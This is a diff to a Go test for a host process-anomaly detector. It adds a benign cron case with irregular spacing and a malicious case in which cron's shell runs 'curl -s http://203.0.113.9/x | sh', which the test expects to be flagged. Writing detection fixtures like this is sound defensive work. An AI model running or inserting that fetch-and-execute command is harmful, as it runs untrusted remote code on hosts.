@@ -60,6 +60,19 @@ func TestClusterYoungProcesses(t *testing.T) {
 				proc("9002", "sh", "/usr/bin/dash", "/bin/sh -c cd / && run-parts --report /etc/cron.hourly", "0", "9001"),
 				proc("9003", "run-parts", "/usr/bin/run-parts", "run-parts --report /etc/cron.hourly", "0", "9002"))
 		}, ""},
+		{"cron's run of a crontab line, its blanks as written", func(h varHost) {
+			// /etc/crontab's "17 *	* * *	root    cd / && run-parts ...":
+			// cron keeps the blanks after the user, osquery's crontab
+			// row has one space.
+			h.add("processes", proc("9001", "cron", "/usr/sbin/cron", "/usr/sbin/CRON -f -P", "0", h["processes"][2]["pid"]),
+				proc("9002", "sh", "/usr/bin/dash", "/bin/sh -c    cd / &&  run-parts --report /etc/cron.hourly", "0", "9001"),
+				proc("9003", "run-parts", "/usr/bin/run-parts", "run-parts --report /etc/cron.hourly", "0", "9002"))
+		}, ""},
+		{"cron's shell running no crontab line", func(h varHost) {
+			h.add("processes", proc("9001", "cron", "/usr/sbin/cron", "/usr/sbin/CRON -f -P", "0", h["processes"][2]["pid"]),
+				proc("9002", "sh", "/usr/bin/dash", "/bin/sh -c    cd / && run-parts --report /etc/cron.hourly; curl -s http://203.0.113.9/x | sh", "0", "9001"),
+				proc("9003", "curl", "/usr/bin/curl", "curl -s http://203.0.113.9/x", "0", "9002"))
+		}, "it is part of none of the host's own work"},
 		{"booting", func(h varHost) {
 			for _, r := range h["processes"] {
 				r["start_time"] = young
